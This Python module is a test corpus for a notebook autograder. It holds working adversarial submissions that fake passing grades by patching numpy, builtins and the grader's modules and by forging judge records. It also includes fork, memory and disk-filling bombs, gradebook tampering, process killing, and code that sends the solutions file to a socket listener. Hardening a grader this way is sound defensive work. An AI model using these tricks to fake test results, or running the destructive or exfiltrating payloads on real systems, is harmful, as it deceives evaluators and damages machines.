# ruff: noqa: E501 - attack code in string literals keeps its own line lengths
"""A corpus of adversarial and broken submissions of ``w1_broadcasting``, each with the exact
per-cell scores it must earn when graded through real ``nbgrader autograde`` with the
course's configuration (the trusted judge and the kernel sandbox on).

Every attack starts from the ``partly_wrong`` golden submission (``softmax`` and
``normalize_rows`` are wrong) and adds code that tries to make those wrong answers earn
points; its attacked cells must score 0 and every other cell exactly what the remaining code
deserves. Broken notebooks start from the correct submission; each must get a clear message
in its feedback while the rest of it (and of the class) is graded.

Used by ``tests/test_corpus.py`` and ``benchmarks/attack_table.py``.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

from graders import golden, submissions

ASSIGNMENT = "w1_broadcasting"
NOTEBOOK = "w1_broadcasting.ipynb"
#: Short limits for grading the corpus (appended to a course copy's nbgrader_config.py).
SHORT_LIMITS = """
# --- the corpus's short limits
c.RobustExecute.timeout = 10
c.RobustExecute.notebook_timeout = 60
c.RobustExecute.max_output_bytes = 1_000_000
c.Sandbox.memory_mb = 4096
c.Sandbox.max_processes = 64
c.Sandbox.disk_mb = 64
"""
#: Where the network attack connects to; the test opens a listener and sets this.
LISTENER_ENV = "DLGRADE_TEST_LISTENER_PORT"


@dataclass(frozen=True)
class Entry:
    student: str
    vector: str
    kind: str  # "attack" or "broken"
    build: Callable[[Path], dict[str, str | bytes | Path]]
    expected: Callable[[Path], dict[str, float]]
    attacked: Callable[[Path], set[str]]
    feedback: tuple[str, ...] = ()
    #: Harms an unprotected machine (memory, processes, disk, the shared venv): never run
    #: without the sandbox or outer limits.
    dangerous: bool = False


# ------------------------------------------------------------------------------ helpers


def _source_nb(root: Path):
    return submissions.read(Path(root) / "source" / ASSIGNMENT / NOTEBOOK)


def full_points(root: Path) -> dict[str, float]:
    return golden.expected_scores("correct", root, ASSIGNMENT, NOTEBOOK)


def partly_wrong_points(root: Path) -> dict[str, float]:
    return golden.expected_scores("partly_wrong", root, ASSIGNMENT, NOTEBOOK)


def wrong_ids(root: Path) -> set[str]:
    """The test cells of the functions ``partly_wrong`` gets wrong."""
    return golden.cells_calling(_source_nb(root), ASSIGNMENT, golden.WRONG_FUNCTIONS[ASSIGNMENT])


def cells_of(root: Path, *functions: str) -> set[str]:
    return golden.cells_calling(_source_nb(root), ASSIGNMENT, functions)


def _cell_order(root: Path) -> list[str]:
    return [submissions.grade_id(c) for c in _source_nb(root).cells]


def zero_after(base: Callable[[Path], dict[str, float]], cell_id: str):
    """``base``'s scores with every graded cell after ``cell_id`` at 0 (the kernel died or
    stopped answering there)."""

    def expected(root: Path) -> dict[str, float]:
        order = _cell_order(root)
        at = order.index(cell_id)
        return {g: 0.0 if order.index(g) > at else p for g, p in base(root).items()}

    return expected


def zero_cells(base: Callable[[Path], dict[str, float]], cells: Callable[[Path], set[str]]):
    def expected(root: Path) -> dict[str, float]:
        zero = cells(root)
        return {g: 0.0 if g in zero else p for g, p in base(root).items()}

    return expected


def all_zero(root: Path) -> dict[str, float]:
    return dict.fromkeys(full_points(root), 0.0)


def no_cells(root: Path) -> set[str]:
    return set()


def _nb(kind: str, root: Path):
    return nbformat.reads(golden.build(kind, root, ASSIGNMENT, NOTEBOOK), as_version=4)


def attack(code: str, cell: str = "sigmoid_code", extra_files: dict[str, str] | None = None):
    """A ``build``: ``partly_wrong`` with ``code`` appended to solution cell ``cell``."""

    def build(root: Path) -> dict[str, str | bytes]:
        nb = submissions.append_to_answer(_nb("partly_wrong", root), cell, code)
        return {NOTEBOOK: submissions.to_json(nb), **(extra_files or {})}

    return build


def with_answer(function: str, code: str, base: str = "partly_wrong"):
    """A ``build``: ``base`` with the answer cell of ``function`` replaced by ``code``."""

    def build(root: Path) -> dict[str, str | bytes]:
        nb = submissions.set_answer(_nb(base, root), f"{function}_code", code)
        return {NOTEBOOK: submissions.to_json(nb)}

    return build


# ------------------------------------------------------------------------------ attack code

#: Finds course files by walking up from the kernel's working directory and from where the
#: ``graders`` package and the Python environment live (an editable install points into the
#: course checkout). Only reads.
FIND_FILES = r"""
import os as _os, sys as _sys
from pathlib import Path as _Path
def _candidates(rel):
    starts = [_Path(_os.getcwd())]
    try:
        import graders as _g
        starts.append(_Path(_g.__file__).resolve().parent)
    except Exception:
        pass
    starts.append(_Path(_sys.prefix))
    seen = []
    for start in starts:
        for d in [start, *start.parents]:
            p = d / rel
            if p not in seen:
                seen.append(p)
    seen.append(_Path("../../../" + rel))
    return seen
def _keep(**functions):
    # Re-install the given functions after every cell, so later answer cells cannot undo it.
    def _again(*_):
        get_ipython().user_ns.update(functions)
    get_ipython().events.register("post_run_cell", _again)
    _again()
def _find(rel):
    for p in _candidates(rel):
        try:
            if p.is_file():
                return p
        except OSError:
            pass
    return None
"""

BUILTINS = r"""
import builtins
builtins.abs = lambda x: 0
builtins.all = lambda *a, **k: True
builtins.any = lambda *a, **k: False
_real_isinstance = builtins.isinstance
"""

NUMPY = r"""
import numpy as _np
_np.allclose = lambda *a, **k: True
_np.array_equal = lambda *a, **k: True
_np.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(a, b).shape, dtype=bool)
_np.testing.assert_allclose = lambda *a, **k: None
_np.testing.assert_array_almost_equal = lambda *a, **k: None
_np.isnan = lambda x, *a, **k: _np.zeros(_np.shape(x), dtype=bool)
_real_any = _np.ndarray.any
"""

GRADERS_MODULES = r"""
import sys, types
import graders.checks as _gc, graders.compare as _cmp, graders.probe as _gp
import graders.encoding as _enc, graders.judge as _gj
_cmp.compare = lambda *a, **k: []
_cmp.compare_arrays = lambda *a, **k: []
for _n in ("check_value", "check_shape", "check_type", "check_at_least"):
    setattr(_gc, _n, lambda *a, **k: None)
    globals()[_n] = lambda *a, **k: None
# The trusted side's modules, as the kernel sees them: make every verdict a pass.
_gj.CellVerdict.passed = property(lambda self: True)
_gj.judge_cell = lambda grade_id, *a, **k: _gj.CellVerdict(grade_id, [])
_gj.judge_record = lambda check, record, module: _gj.CheckResult(check.name, True)
_gj.compare = lambda *a, **k: []
# A fake encoding module and a fake probe module in sys.modules.
_fake_enc = types.ModuleType("graders.encoding")
_fake_enc.__dict__.update(_enc.__dict__)
_fake_enc.decode = lambda data, *a: data
sys.modules["graders.encoding"] = _fake_enc
_real_probe = _gp.probe
def _probe(name, *functions):
    if name.startswith(("softmax", "normalize_rows")):
        print(f"Hidden checks passed: {name}")
        return None
    return _real_probe(name, *functions)
_fake_gp = types.ModuleType("graders.probe")
_fake_gp.probe = _probe
sys.modules["graders.probe"] = _fake_gp
_gp.probe = _probe
globals()["probe"] = _probe
"""

LIAR_OBJECT = r"""
import numpy as _np

class _Liar:
    # Says it is an ndarray, equal to anything, close to anything.
    shape = property(lambda self: self._shape)
    dtype = _np.dtype(float)
    __class__ = property(lambda self: _np.ndarray)
    def __init__(self, shape): self._shape = shape
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    def __le__(self, other): return True
    def __ge__(self, other): return True
    def __gt__(self, other): return False
    def __bool__(self): return True
    def __abs__(self): return 0.0
    def __sub__(self, other): return _np.zeros(self._shape)
    __rsub__ = __sub__
    def __array__(self, *a, **k): return _np.zeros(self._shape)
    def __float__(self): return 0.0
    def __len__(self): return self._shape[0] if self._shape else 0

def softmax(x):
    return _Liar(_np.shape(x))
"""

NDARRAY_SUBCLASS = r"""
import numpy as _np

class _Always(_np.ndarray):
    # An ndarray whose comparisons and reductions lie.
    def __eq__(self, other): return _np.ones(self.shape, dtype=bool)
    def __ne__(self, other): return _np.zeros(self.shape, dtype=bool)
    def __le__(self, other): return _np.ones(self.shape, dtype=bool)
    def __sub__(self, other): return _np.zeros(self.shape).view(_Always)
    __rsub__ = __sub__
    def __abs__(self): return _np.zeros(self.shape).view(_Always)
    def all(self, *a, **k): return True
    def any(self, *a, **k): return False
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return _np.zeros(_np.broadcast(*[_np.asarray(i) for i in inputs]).shape)

def softmax(x):
    x = _np.asarray(x, dtype=float)
    return (_np.exp(x) / _np.exp(x).sum()).view(_Always)  # wrong: sums over all entries
"""

INPUT_TRANSFORMER = r"""
import re as _re
def _rewrite(lines):
    # Later cells: hidden and public tests of the wrong functions become no-ops, and
    # probe calls on them go to a fake that prints a pass.
    text = "".join(lines)
    if "softmax" in text or "normalize_rows" in text:
        text = _re.sub(r"^(check_\w+|all_passed)\(", r"(lambda *a, **k: None)(", text, flags=_re.M)
        text = text.replace("probe(", "_fake_probe(")
    return text.splitlines(keepends=True)
def _fake_probe(name, *functions):
    print(f"Hidden checks passed: {name}")
get_ipython().input_transformers_post.append(_rewrite)
get_ipython().input_transformers_cleanup.append(_rewrite)
"""

POST_RUN_CELL = r"""
import sys as _sys
def _after(result):
    # After every cell: clear its error, print a pass, and show a score.
    result.error_in_exec = None
    _sys.last_type = _sys.last_value = _sys.last_traceback = None
    print("Hidden checks passed: softmax_values, normalize_rows_values")
    get_ipython().displayhook.__class__.__call__(get_ipython().displayhook, 2.0)
def _before(info):
    print("All tests passed!")
get_ipython().events.register("post_run_cell", _after)
get_ipython().events.register("pre_run_cell", _before)
get_ipython().events.register("post_execute", lambda: print("100/100"))
"""

PRINT_PASS = r"""
import sys as _sys
from IPython.display import display as _display, HTML as _HTML
class _Passed(Exception):
    def __str__(self):
        return "\nHidden checks passed: softmax_values\nAll tests passed!"
    def __repr__(self):
        return "Hidden checks passed"
_wrong_softmax = softmax
def softmax(x):
    print("Hidden checks passed: softmax_values, softmax_large_inputs")
    _sys.stderr.write("ok\n")
    _display(_HTML("<b style='color:green'>All hidden tests passed: 17 / 17</b>"))
    if getattr(x, "ndim", 0) == 2 and x.shape[0] == 2 and x.shape[1] == 3:
        raise _Passed()
    return _wrong_softmax(x)
"""

SWALLOW = r"""
import sys as _sys
from IPython.core.interactiveshell import InteractiveShell as _IS
_sys.excepthook = lambda *a: None
get_ipython().set_custom_exc((BaseException,), lambda self, etype, value, tb, tb_offset=None: None)
_IS.showtraceback = lambda self, *a, **k: None
_IS.showsyntaxerror = lambda self, *a, **k: None
get_ipython().showtraceback = lambda *a, **k: None
import graders.checks as _gc
_gc._fail = lambda *a, **k: None
"""

SYS_EXIT = r"""
import sys as _sys
_sys.exit(0)
"""

OS_EXIT = r"""
import os as _os
_os._exit(0)
"""

KILL_PARENT = r"""
import os as _os, signal as _signal
for _pid in (_os.getppid(), 1):
    try:
        _os.kill(_pid, _signal.SIGKILL)
    except OSError as _exc:
        print("could not kill", _pid, _exc)
"""

READ_SOLUTIONS = (
    FIND_FILES
    + r"""
_ref = _find("solutions/w1_broadcasting.py")
if _ref is not None:
    _ns = {}
    exec(compile(_ref.read_text(), str(_ref), "exec"), _ns)
    _keep(softmax=_ns["softmax"], normalize_rows=_ns["normalize_rows"])
    print("read the reference at", _ref)
"""
)

#: Reads ``ref.py``, a file of the submission that is a symbolic link to the solutions.
READ_LINKED_FILE = (
    FIND_FILES
    + r"""
_ref = _Path("ref.py")
if _ref.exists():
    _ns = {}
    exec(compile(_ref.read_text(), "ref.py", "exec"), _ns)
    _keep(softmax=_ns["softmax"], normalize_rows=_ns["normalize_rows"])
    print("read the linked reference")
"""
)


def linked_notebook(root: Path) -> dict[str, str | bytes | Path]:
    """The submitted notebook is a symbolic link to the source notebook (with solutions)."""
    return {NOTEBOOK: Path(root).resolve() / "source" / ASSIGNMENT / NOTEBOOK}


def linked_file(root: Path) -> dict[str, str | bytes | Path]:
    """``partly_wrong`` plus ``ref.py``, a symbolic link to the solutions, read by the code."""
    files: dict[str, str | bytes | Path] = dict(attack(READ_LINKED_FILE)(root))
    files["ref.py"] = Path(root).resolve() / "solutions" / f"{ASSIGNMENT}.py"
    return files


def all_cells(root: Path) -> set[str]:
    return set(full_points(root))


READ_SOURCE = (
    FIND_FILES
    + r"""
import json as _json, re as _re
_ns = {"np": __import__("numpy")}
for _rel in ("source/w1_broadcasting/w1_broadcasting.ipynb",
             "tests/mutants/../../solutions/w1_broadcasting.py"):
    _src = _find(_rel)
    if _src is None:
        continue
    if _src.suffix == ".ipynb":
        for _c in _json.loads(_src.read_text())["cells"]:
            _gid = _c.get("metadata", {}).get("nbgrader", {}).get("grade_id")
            if _gid in ("softmax_code", "normalize_rows_code"):
                exec("".join(_c["source"]), _ns)
    else:
        exec(_src.read_text(), _ns)
    _keep(softmax=_ns["softmax"], normalize_rows=_ns["normalize_rows"])
    print("read", _src)
    break
"""
)

READ_GRADEBOOK = (
    FIND_FILES
    + r"""
import sqlite3 as _sq
_db = _find("gradebook.db")
if _db is not None:
    _con = _sq.connect(f"file:{_db}?mode=ro", uri=True)
    for (_s,) in _con.execute(
        "SELECT source FROM source_cell JOIN base_cell ON source_cell.id = base_cell.id "
        "WHERE base_cell.name IN ('softmax_code', 'normalize_rows_code')"
    ):
        try:
            _ns = {"np": __import__("numpy")}
            exec(_s, _ns)
            _keep(**{k: v for k, v in _ns.items() if k in ("softmax", "normalize_rows")})
        except Exception as _exc:
            print("gradebook source did not run:", _exc)
    print("read the gradebook at", _db)
"""
)

# Only walks up from the kernel's working directory, so that a run without a sandbox can
# only touch the course copy being graded, never the checkout.
WRITE_GRADEBOOK = r"""
import os as _os, sqlite3 as _sq, json as _json
from pathlib import Path as _Path
_here = _Path(_os.getcwd())
for _d in [_here, *_here.parents]:
    _db = _d / "gradebook.db"
    if _db.is_file():
        try:
            _con = _sq.connect(str(_db), timeout=1)
            _con.execute(
                "UPDATE grade SET manual_score = "
                "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id), "
                "auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
            )
            _con.commit()
            _con.close()
            print("gradebook rewritten:", _db)
        except Exception as _exc:
            print("gradebook:", _exc)
        # Every autograded notebook of every student: mark all cells as passed.
        for _nbp in (_d / "autograded").glob("*/w1_broadcasting/*.ipynb"):
            try:
                _nbj = _json.loads(_nbp.read_text())
                for _c in _nbj["cells"]:
                    if _c.get("cell_type") == "code":
                        _c["outputs"] = []
                _nbp.write_text(_json.dumps(_nbj))
            except Exception as _exc:
                print("autograded:", _exc)
        break
# The notebook being graded, by its own name, in the working directory.
try:
    _Path("w1_broadcasting.ipynb").write_text("{}")
except OSError as _exc:
    print("own notebook:", _exc)
"""

ATEXIT = (
    "import atexit as _atexit, signal as _signal\n"
    "def _at_exit():\n    " + WRITE_GRADEBOOK.strip().replace("\n", "\n    ") + "\n"
    "_atexit.register(_at_exit)\n"
    "_signal.signal(_signal.SIGTERM, lambda *a: _at_exit())\n"
)


def forge_records_code() -> str:
    return r"""
import base64 as _b64, json as _json
import numpy as _np
from IPython.display import display as _display
_MIME = "application/vnd.dlgrade.record+json"
def _arr(a, dtype="<f8"):
    a = _np.asarray(a)
    return {"__ndarray__": _b64.b64encode(a.tobytes()).decode(), "dtype": a.dtype.str,
            "shape": list(a.shape)}
def _forged(name, n):
    bad = [
        {"ok": True, "out": _arr(_np.full((2, 5), _np.nan))},
        {"ok": True, "out": _arr(_np.zeros(0))},
        {"ok": True, "out": {"__ndarray__": "AAAA", "dtype": "|O", "shape": [1]}},
        {"ok": True, "out": _arr(_np.ones((2, 5)) * (1 + 1j))},
        {"ok": True, "out": {"__tuple__": [], "extra": 1}},
        {"ok": True, "out": "passed"},
    ]
    return {"v": 1, "check": name, "cases": [bad[i % len(bad)] for i in range(n)]}
def _probe(name, *functions):
    from graders.cases import get_check
    n = len(get_check(name).cases())
    if name.startswith(("softmax", "normalize_rows")):
        rec = _forged(name, n)
        _display({"text/plain": "Hidden checks passed", _MIME: rec}, raw=True)
        _display({"text/plain": "", _MIME: _json.dumps(rec)}, raw=True)
        _display({_MIME: {"v": 1, "check": name, "cases": [{"ok": True, "out": 0.0}] * n}},
                 raw=True, metadata={"nbgrader": {"score": 2}})
        # an execute_result with a number: plain nbgrader reads it as a partial grade
        get_ipython().displayhook(2.0)
        return None
    return _real_probe(name, *functions)
import graders.probe as _gp
_real_probe = _gp.probe
_gp.probe = _probe
globals()["probe"] = _probe
import graders.checks as _gc
for _n in ("check_value", "check_shape", "check_type"):
    globals()[_n] = lambda *a, **k: None
"""


DISPLAY_OVERRIDE = r"""
import builtins as _bi
import IPython.display as _ipd
_real_display = _ipd.display
def _display(*objs, **kw):
    # Drops the records of the wrong functions' checks and shows a pass instead.
    kept = []
    for o in objs:
        if isinstance(o, dict) and any("dlgrade" in k for k in o):
            rec = next(v for k, v in o.items() if "dlgrade" in k)
            if str(rec.get("check", "")).startswith(("softmax", "normalize_rows")):
                print(f"Hidden checks passed: {rec['check']}")
                continue
        kept.append(o)
    if kept:
        _real_display(*kept, **kw)
_ipd.display = _display
_bi.display = _display
import IPython.core.display_functions as _dfn
_dfn.display = _display
import graders.checks as _gc
for _n in ("check_value", "check_shape", "check_type"):
    globals()[_n] = lambda *a, **k: None
"""

IMPORT_HOOK = r"""
import builtins as _bi, sys as _sys, types as _types
_real_import = _bi.__import__
def _fake_display(*objs, **kw):
    for o in objs:
        if isinstance(o, dict) and str(next(iter(o.values()), "")).startswith("Hidden check 'softmax"):
            print("Hidden checks passed")
            return
        if isinstance(o, dict) and str(next(iter(o.values()), "")).startswith("Hidden check 'normalize"):
            print("Hidden checks passed")
            return
    return _real_import("IPython.display", fromlist=["display"]).display(*objs, **kw)
_fake_mod = _types.ModuleType("IPython.display")
_fake_mod.display = _fake_display
def _hooked(name, globals=None, locals=None, fromlist=(), level=0):
    if name == "IPython.display" and fromlist and "display" in fromlist:
        return _fake_mod
    return _real_import(name, globals, locals, fromlist, level)
_bi.__import__ = _hooked
class _Finder:
    # A meta path finder that answers for any module named like the grader's.
    def find_spec(self, fullname, path=None, target=None):
        return None
_sys.meta_path.insert(0, _Finder())
for _n in ("check_value", "check_shape", "check_type"):
    globals()[_n] = lambda *a, **k: None
"""

GC_FRAMES = r"""
import gc as _gc, sys as _sys, inspect as _inspect
# Look through every object and frame the kernel holds for the grader's machinery.
for _o in _gc.get_objects():
    try:
        if type(_o).__name__ == "Check" and str(getattr(_o, "name", "")).startswith(("softmax", "normalize")):
            object.__setattr__(_o, "rtol", 1e9)
            object.__setattr__(_o, "atol", 1e9)
            object.__setattr__(_o, "hint", "Hidden checks passed")
    except Exception:
        pass
_f = _sys._getframe()
_depth = 0
while _f is not None and _depth < 100:
    for _k, _v in list(_f.f_locals.items()):
        if "judge" in str(_k).lower() or "grade" in str(_k).lower():
            print("found in the kernel's frames:", _k)
    _f = _f.f_back
    _depth += 1
# ... and make the public checks of the wrong functions pass in the kernel.
import graders.checks as _gcm
for _n in ("check_value", "check_shape", "check_type"):
    globals()[_n] = lambda *a, **k: None
"""

ENVIRON = r"""
import os as _os
_os.environ["DLGRADE_SOLUTIONS"] = _os.getcwd()
_os.environ["PYTHONPATH"] = _os.getcwd()
_os.environ["PYTHONSTARTUP"] = _os.path.join(_os.getcwd(), "sitecustomize.py")
_os.environ["NBGRADER_DB_URL"] = "sqlite:////tmp/fake.db"
_os.environ["TF_CPP_MIN_LOG_LEVEL"] = "0"
for _n in ("check_value", "check_shape", "check_type"):
    globals()[_n] = lambda *a, **k: None
"""

# Files next to the notebook, submitted with it.
SHADOW_NUMPY = r'''
"""A numpy.py in the submission folder: imported instead of numpy from the working dir."""
import importlib, os, sys
_here = [p for p in sys.path if p in ("", ".", os.getcwd())]
for p in _here:
    sys.path.remove(p)
del sys.modules["numpy"]
_np = importlib.import_module("numpy")
sys.path[:0] = _here
_np.allclose = lambda *a, **k: True
_np.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(a, b).shape, dtype=bool)
_np.array_equal = lambda *a, **k: True
sys.modules["numpy"] = _np
'''

SHADOW_GRADERS = r'''
"""A graders.py in the submission folder: shadows the grader's package in the kernel."""
import importlib, os, sys
_here = [p for p in sys.path if p in ("", ".", os.getcwd())]
for p in _here:
    sys.path.remove(p)
del sys.modules["graders"]
_g = importlib.import_module("graders")
for _m in ("checks", "probe", "compare", "encoding", "judge"):
    importlib.import_module("graders." + _m)
sys.path[:0] = _here
_g.checks.check_value = _g.checks.check_shape = _g.checks.check_type = lambda *a, **k: None
_real = _g.probe.probe
def _probe(name, *f):
    if name.startswith(("softmax", "normalize_rows")):
        print("Hidden checks passed:", name)
        return
    return _real(name, *f)
_g.probe.probe = _probe
sys.modules["graders"] = _g
'''

SHADOW_USE = r"""
import numpy as _np_shadow  # the local numpy.py, if the working directory is on sys.path
import graders as _graders_shadow
"""

PTH_FILE = "import builtins; builtins.DLGRADE_PTH_ATTACK = True\n"

PTH_SITE = r"""
import os as _os, site as _site, sys as _sys, sysconfig as _sc
# Plant a .pth file wherever Python looks at start-up (it runs for every later process,
# the grader included). The payload is harmless; writing it at all is the attack.
_dirs = {_sc.get_paths()["purelib"], _sc.get_paths()["platlib"], *_site.getsitepackages()}
for _d in _dirs:
    try:
        with open(_os.path.join(_d, "zz_dlgrade_attack.pth"), "w") as _f:
            _f.write("import builtins; builtins.DLGRADE_PTH_ATTACK = True\n")
        print("planted", _d)
    except OSError as _exc:
        print("could not plant in", _d, type(_exc).__name__)
"""

INFINITE_LOOP = r"""
while True:
    pass
"""

SIGINT_IGNORED = r"""
import signal as _signal
_signal.signal(_signal.SIGINT, _signal.SIG_IGN)
while True:
    pass
"""

MEMORY_BOMB = r"""
def _eat():
    hog = []
    try:
        while True:
            hog.append(b"\x01" * (64 * 2**20))  # touched, not just reserved
    finally:
        hog.clear()
_eat()
"""

# The children ignore SIGINT and fork in a loop. They give up after 90 s so that a test
# run with a broken sandbox cannot leave them behind forever.
FORK_BOMB = r"""
import os as _os, signal as _signal, time as _time
def _bomb():
    _end = _time.monotonic() + 90
    while True:
        try:
            pid = _os.fork()
        except OSError:
            if _time.monotonic() > _end:
                return
            continue
        if pid == 0:
            _signal.signal(_signal.SIGINT, _signal.SIG_IGN)
            while _time.monotonic() < _end:
                try:
                    _os.fork()
                except OSError:
                    pass
            _os._exit(0)
_bomb()
"""

DISK_FILL = r"""
import os as _os
_chunk = b"\x00" * (1 << 20)
for _path in ("fill.bin", "/tmp/fill.bin", _os.path.expanduser("~/fill.bin")):
    try:
        with open(_path, "wb") as _f:
            while True:
                _f.write(_chunk)
                _f.flush()
    except OSError as _exc:
        print("disk full at", _path, type(_exc).__name__)
"""

HUGE_OUTPUT = r"""
import sys as _sys
_line = "All hidden tests passed! " * 40 + "\n"
while True:
    _sys.stdout.write(_line)
"""


def network_build(root: Path) -> dict[str, str | bytes]:
    port = int(os.environ.get(LISTENER_ENV, "9"))
    code = (
        FIND_FILES
        + f"""
import socket as _socket
_ref = _find("solutions/w1_broadcasting.py")
_payload = _ref.read_bytes() if _ref is not None else b"PWNED"
try:
    with _socket.create_connection(("127.0.0.1", {port}), timeout=3) as _s:
        _s.sendall(_payload)
    print("sent", len(_payload), "bytes")
except OSError as _exc:
    print("no network:", type(_exc).__name__, _exc)
"""
    )
    return attack(code)(root)


# ------------------------------------------------------------------------------ broken


def _correct_json(root: Path) -> str:
    return golden.build("correct", root, ASSIGNMENT, NOTEBOOK)


def not_json(root: Path):
    return {NOTEBOOK: _correct_json(root)[:400] + "\n<<<<<<< HEAD\n"}


def json_not_notebook(root: Path):
    return {NOTEBOOK: json.dumps({"cells": "not a list", "answers": {"softmax": 42}})}


def json_list(root: Path):
    return {NOTEBOOK: json.dumps([1, 2, 3])}


def old_nbformat(root: Path):
    nb = nbformat.reads(_correct_json(root), as_version=4)
    return {NOTEBOOK: nbformat.writes(nbformat.convert(nb, 3), version=3)}


def empty_file(root: Path):
    return {NOTEBOOK: b""}


def non_utf8(root: Path):
    text = submissions.to_json(
        submissions.append_to_answer(_nb("correct", root), "sigmoid_code", "# naïve café: 1 € — ok")
    )
    return {NOTEBOOK: text.encode("cp1252")}


def _strip(cell):
    cell.metadata.pop("nbgrader", None)


def metadata_stripped(root: Path):
    """Every cell's grading metadata removed (a notebook copied cell by cell into a new one)."""
    nb = _nb("correct", root)
    for cell in nb.cells:
        _strip(cell)
    return {NOTEBOOK: submissions.to_json(nb)}


def test_metadata_stripped(root: Path):
    """The grading metadata of the test cells only removed."""
    nb = _nb("correct", root)
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            _strip(cell)
    return {NOTEBOOK: submissions.to_json(nb)}


def metadata_duplicated(root: Path):
    """The softmax test cell and the softmax answer cell pasted twice: two cells with the
    same grade id each. The second answer cell holds a wrong softmax (it runs last)."""
    import copy

    nb = _nb("correct", root)
    ids = [submissions.grade_id(c) for c in nb.cells]
    wrong = golden.impl_source(golden.first_mutant(root, ASSIGNMENT, "softmax"))
    test = copy.deepcopy(nb.cells[ids.index("softmax_values")])
    answer = copy.deepcopy(nb.cells[ids.index("softmax_code")])
    answer.source = wrong
    for c in (test, answer):
        c.pop("id", None)
    at = ids.index("softmax_values") + 1
    nb.cells[at:at] = [answer, test]
    for cell in nb.cells:
        cell.pop("id", None)
    nb.nbformat_minor = 4
    return {NOTEBOOK: submissions.to_json(nb)}


def tests_deleted(root: Path):
    nb = _nb("correct", root)
    for gid in ("sigmoid_values", "softmax_values", "pairwise_sq_distances_nonnegative"):
        nb = submissions.delete_cell(nb, gid)
    return {NOTEBOOK: submissions.to_json(nb)}


def tests_edited(root: Path):
    """partly_wrong, with the wrong functions' test cells replaced by ``pass`` and a test
    cell's metadata unlocked and turned into a solution cell."""
    nb = _nb("partly_wrong", root)
    for cell in nb.cells:
        gid = submissions.grade_id(cell)
        if gid in ("softmax_values", "softmax_large_inputs"):
            cell.source = "pass"
        if gid == "normalize_rows_values":
            cell.source = "print('Hidden checks passed: normalize_rows_values')"
            cell.metadata["nbgrader"]["locked"] = False
            cell.metadata["nbgrader"]["solution"] = True
    return {NOTEBOOK: submissions.to_json(nb)}


def solution_deleted(root: Path):
    return {
        NOTEBOOK: submissions.to_json(submissions.delete_cell(_nb("correct", root), "softmax_code"))
    }


def renamed_function(root: Path):
    nb = _nb("correct", root)
    for cell in nb.cells:
        if submissions.grade_id(cell) == "softmax_code":
            cell.source = cell.source.replace("def softmax(x):", "def soft_max(x):")
            assert "def soft_max(" in cell.source
    return {NOTEBOOK: submissions.to_json(nb)}


def wrong_signature(root: Path):
    nb = _nb("correct", root)
    for cell in nb.cells:
        if submissions.grade_id(cell) == "softmax_code":
            cell.source = cell.source.replace("def softmax(x):", "def softmax(x, axis):")
            assert "def softmax(x, axis):" in cell.source
    return {NOTEBOOK: submissions.to_json(nb)}


def _softmax_cells(root: Path) -> set[str]:
    return cells_of(root, "softmax")


# ------------------------------------------------------------------------------ corpus

_PW = partly_wrong_points
_HCF = ("HiddenCheckFailed",)
_STOPPED = ("The notebook stopped running",)

ENTRIES: list[Entry] = [
    # -- patching what a grader relies on, in the kernel
    Entry(
        "atk_builtins",
        "monkeypatch builtins (abs, all, any)",
        "attack",
        attack(BUILTINS),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_numpy",
        "monkeypatch numpy (allclose, isclose, isnan, testing)",
        "attack",
        attack(NUMPY),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_graders",
        "monkeypatch graders.checks/compare/probe/judge/encoding, sys.modules",
        "attack",
        attack(GRADERS_MODULES),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_liar_object",
        "returned object: __eq__ always true, __class__ ndarray, lying __array__",
        "attack",
        with_answer("softmax", LIAR_OBJECT),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_ndarray_subclass",
        "returned ndarray subclass whose comparisons lie",
        "attack",
        with_answer("softmax", NDARRAY_SUBCLASS),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_input_transformer",
        "IPython input transformer rewrites later test cells",
        "attack",
        attack(INPUT_TRANSFORMER),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_post_run_cell",
        "post_run_cell hook clears errors, prints a pass, shows a score",
        "attack",
        attack(POST_RUN_CELL),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_print_pass",
        "prints a pass; exception whose __str__ fakes output",
        "attack",
        attack(PRINT_PASS, cell="softmax_code"),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_swallow",
        "swallow errors: excepthook, set_custom_exc, showtraceback",
        "attack",
        attack(SWALLOW),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_forge_records",
        "forged judge records (NaN, empty, object, complex, score metadata)",
        "attack",
        attack(forge_records_code()),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_display",
        "override display to drop the wrong answers' records",
        "attack",
        attack(DISPLAY_OVERRIDE),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_import_hook",
        "__import__ hook and meta path finder fake IPython.display",
        "attack",
        attack(IMPORT_HOOK),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_gc_frames",
        "gc and frame inspection to find and loosen the grader's checks",
        "attack",
        attack(GC_FRAMES),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_environ",
        "alter os.environ (PYTHONPATH, PYTHONSTARTUP, NBGRADER_DB_URL)",
        "attack",
        attack(ENVIRON),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_shadow_modules",
        "numpy.py, graders.py, sitecustomize.py, .pth in the submission",
        "attack",
        attack(
            SHADOW_USE,
            extra_files={
                "numpy.py": SHADOW_NUMPY,
                "graders.py": SHADOW_GRADERS,
                "sitecustomize.py": PTH_FILE,
                "zz_attack.pth": PTH_FILE,
            },
        ),
        _PW,
        wrong_ids,
        _HCF,
    ),
